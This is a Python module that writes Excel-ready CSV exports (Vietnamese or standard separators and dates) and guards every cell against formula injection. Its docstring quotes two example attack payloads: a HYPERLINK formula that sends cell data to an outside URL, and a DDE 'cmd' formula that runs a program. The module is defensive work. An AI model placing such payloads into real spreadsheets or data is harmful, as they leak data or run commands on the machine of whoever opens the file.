"""CSV files for Excel: UTF-8 with a byte-order mark, every cell quoted, no formula can start.

Two forms (:class:`CsvForm`). The default is what Excel on a Vietnamese Windows opens in columns:
its list separator is ";" (the decimal mark being ","), and it reads dates as dd/mm/yyyy — a
comma-separated file opens there in one column. The other is the standard form other programs
read: "," and ISO dates (2026-11-15).

A spreadsheet opening a CSV reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab
or carriage return before one) as a formula: an aspiration or a task titled
``=HYPERLINK("http://…?x="&A1,"Bấm vào đây")`` or ``=cmd|' /C calc'!A0`` would run on the leader's
machine. As OWASP's "CSV Injection" page describes, such a cell gets a single quote in front (Excel
and LibreOffice show it as text, the quote hidden), and every cell is wrapped in double quotes
with its own double quotes doubled, so whichever separator a program splits at, no piece of a
cell can start a formula either. Control characters an older database may hold are left out
(``core.text.printable``). No Qt.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Callable, Iterable, Sequence
from enum import StrEnum
from typing import Any

from giaoban.core.text import printable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class CsvForm(StrEnum):
    """How a CSV file separates cells and writes dates (the CLI's ``--csv`` values)."""

    EXCEL = "excel"  # ";" and dd/mm/yyyy: Excel set up for Vietnam opens it in columns
    STANDARD = "standard"  # "," and ISO dates: other programs, scripts

    @property
    def delimiter(self) -> str:
        return ";" if self is CsvForm.EXCEL else ","

    def date(self, value: dt.date) -> str:
        if self is CsvForm.EXCEL:  # dd/mm/yyyy, as strftime("%d/%m/%Y") but a third of its time
            return f"{value.day:02d}/{value.month:02d}/{value.year:04d}"
        return value.isoformat()


def neutralize(text: str) -> str:
    """``text`` as a CSV cell no spreadsheet reads as a formula (a leading ' when needed).

    Judged on the text as given and as written (control characters left out, a carriage return
    made a line end), so neither "\\r=…" nor "\\x00=…" slips through.
    """
    shown = printable(text)  # the same object when nothing was left out
    if text.startswith(FORMULA_STARTS) or (shown is not text and shown.startswith(FORMULA_STARTS)):
        return "'" + shown
    return shown


def cell(value: object, form: CsvForm = CsvForm.STANDARD) -> str:
    """One CSV cell: "" for nothing, dates in the ``form``'s way, text neutralized, numbers as
    they are (whole numbers only in our exports, so no decimal mark to choose)."""
    if isinstance(value, str):  # most cells: tested first
        return neutralize(value)
    if value is None:
        return ""
    if isinstance(value, dt.datetime):
        value = value.date()
    if isinstance(value, dt.date):
        return form.date(value)
    return str(value)


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[object]],
              form: CsvForm = CsvForm.EXCEL, *, date_columns: Sequence[int] | None = None) -> bytes:
    """The whole CSV file: a header line, then one line per row (CRLF line ends, as Excel's),
    separated and dated as ``form`` says (Excel on a Vietnamese Windows by default).

    ``date_columns`` (0-based; every column that may hold a date) lets a big export go the quick
    way: the cells made text (dates through a table of the distinct days), then joined and
    guarded whole (:func:`_quick_bytes`) — the same bytes, a fraction of the time, unless some
    cell holds a control character, when the rows are written cell by cell as without it.
    """
    if date_columns is not None:
        rows = rows if isinstance(rows, list) else list(rows)
        quick = _quick_bytes(header, cell_texts(rows, form, date_columns), form)
        if quick is not None:
            return quick
    return _cell_by_cell(header, rows, form)


def text_csv_bytes(header: Sequence[str], rows: Sequence[Sequence[str]],
                   form: CsvForm = CsvForm.EXCEL,
                   on_rows: Callable[[int], None] | None = None) -> bytes:
    """:func:`csv_bytes` of rows whose cells are all text already, as ``cell`` would write them
    bar the guard ("" for nothing, dates in the ``form``'s way): the biggest export's way, no
    cell converted again. ``on_rows(count)`` after each chunk of rows joined (progress, cancel).
    """
    quick = _quick_bytes(header, rows, form, on_rows)
    return quick if quick is not None else _cell_by_cell(header, rows, form)


def _header(header: Sequence[str], form: CsvForm) -> tuple[io.StringIO, Any]:
    """A buffer holding the header line, and the writer that wrote it."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=form.delimiter, quoting=csv.QUOTE_ALL)
    writer.writerow([cell(title, form) for title in header])
    return buffer, writer


def _cell_by_cell(header: Sequence[str], rows: Iterable[Sequence[object]],
                  form: CsvForm) -> bytes:
    """The file with every cell through :func:`cell` (what the quick way must equal)."""
    buffer, writer = _header(header, form)

    def convert(value: object) -> str:  # cell(value, form), the commonest kinds first
        kind = type(value)
        if kind is str:
            return neutralize(value)  # type: ignore[arg-type]
        if value is None:
            return ""
        return str(value) if kind is int else cell(value, form)

    writer.writerows([convert(value) for value in row] for row in rows)
    return buffer.getvalue().encode("utf-8-sig")


def cell_texts(rows: list[Sequence[object]], form: CsvForm,
           date_columns: Sequence[int]) -> list[list[str]]:
    """The rows' cells as text the way ``csv.writer`` would print them ("" for None), the dates
    in ``date_columns`` put in the form's way through a table of the distinct values."""
    days: dict[object, str] = {None: ""}
    for index in date_columns:
        days.update((value, _day(value, form)) for value in {row[index] for row in rows}
                    if value not in days)
    texts = [[value if type(value) is str else "" if value is None else str(value)
              for value in row] for row in rows]
    for text, row in zip(texts, rows, strict=True):
        for index in date_columns:
            text[index] = days[row[index]]
    return texts


CHUNK = 1000  # rows joined between two progress reports
# An opening quote followed by what starts a formula, after a separator or after a line end
# (CRLF; the "\n" is enough, no cell holds a "\r" on the quick way), in the UTF-8 bytes (an
# ASCII byte never occurs inside a multi-byte character). One literal prefix per expression,
# so the engine skips from one candidate to the next at memchr speed.
_FORMULA_AFTER = {before: re.compile(re.escape(f'{before}"'.encode()) + b"(?=[=+\\-@\t])")
                  for before in (";", ",", "\n")}
# What ``printable`` would change, in UTF-8: a control byte other than tab, line feed and
# carriage return (mapped to 0 by the table); a C1 control; U+FFFE/U+FFFF. A lone surrogate
# cannot be encoded at all.
_CONTROL_BYTES = bytes(0 if (code < 32 and code not in (9, 10, 13)) or code == 127 else 1
                       for code in range(256))
_C1 = re.compile(b"\xc2[\x80-\x9f]")
_NONCHARACTER = re.compile(b"\xef\xbf[\xbe\xbf]")
_BOM = "\ufeff"  # UTF-8's byte-order mark once encoded, as "utf-8-sig" writes it


def _quick_bytes(header: Sequence[str], rows: Sequence[Sequence[str]], form: CsvForm,
                 on_rows: Callable[[int], None] | None = None) -> bytes | None:
    """The file written at once: the text cells joined and quoted as ``csv.writer`` with
    QUOTE_ALL writes them (quotes doubled; :func:`_chunk`), encoded a chunk of rows at a time
    and joined once, then a ``'`` put after the opening quote of each cell that starts a
    formula; None when a cell holds a control character or a carriage return, or a row is empty
    (the caller then writes cell by cell).

    Every cell is quoted and a quote inside a cell is doubled, so an opening quote is exactly a
    quote at the start of a line or after a separator that is not followed by a second quote.
    A whole number below zero made text would get the ``'`` too (a text cell "-5…" must),
    unlike cell by cell; no export writes one. Each step works on the whole text once (the
    header line ends with a line end, so the first row is guarded like the others).
    """
    if rows and min(map(len, rows)) == 0:  # csv.writer writes an empty row as a bare line end
        return None
    separator = f'"{form.delimiter}"'
    head = _BOM + _header(header, form)[0].getvalue() + ('"' if rows else "")
    try:
        parts = [head.encode()]
        for start in range(0, len(rows), CHUNK):
            chunk = rows[start:start + CHUNK]
            text = _chunk(chunk, separator)
            if text.count("\r") != len(chunk) - 1:  # a cell holds a carriage return
                return None
            parts += (text.encode(), b'"\r\n"')
            if on_rows is not None:
                on_rows(len(chunk))
    except UnicodeEncodeError:  # a lone surrogate
        return None
    if rows:
        parts[-1] = b'"\r\n'
    data = b"".join(parts)
    for before in (form.delimiter, "\n"):
        data = _FORMULA_AFTER[before].sub(b"\\g<0>'", data)
    if (b"\x00" in data.translate(_CONTROL_BYTES) or _C1.search(data) is not None
            or _NONCHARACTER.search(data) is not None):
        return None
    return data


def _chunk(rows: Sequence[Sequence[str]], separator: str) -> str:
    """The rows' lines without the first opening and the last closing quote, joined by a
    closing quote, CRLF and an opening quote; each row's cells joined by the quoted separator,
    a cell's quotes doubled. No cell holds a quote of its own (the commonest) when the text
    counts only the separators' two each and the line joints' two."""
    text = '"\r\n"'.join(map(separator.join, rows))
    if text.count('"') == 2 * (sum(map(len, rows)) - 1):
        return text
    return '"\r\n"'.join(separator.join([cell.replace('"', '""') for cell in row])
                          for row in rows)


def _day(value: object, form: CsvForm) -> str:
    """A date cell as ``cell`` writes it (a datetime by its day); anything else as text."""
    if isinstance(value, dt.datetime):
        return form.date(value.date())
    if isinstance(value, dt.date):
        return form.date(value)
    return "" if value is None else str(value)


def csv_file_filters() -> dict[str, CsvForm]:
    """The save dialog's CSV entries and the form each one writes (the GUI's choice of form)."""
    from giaoban.i18n import _

    return {
        _("CSV cho Excel – dấu chấm phẩy, ngày dd/mm/yyyy (*.csv)"): CsvForm.EXCEL,
        _("CSV chuẩn – dấu phẩy, ngày yyyy-mm-dd (*.csv)"): CsvForm.STANDARD,
    }
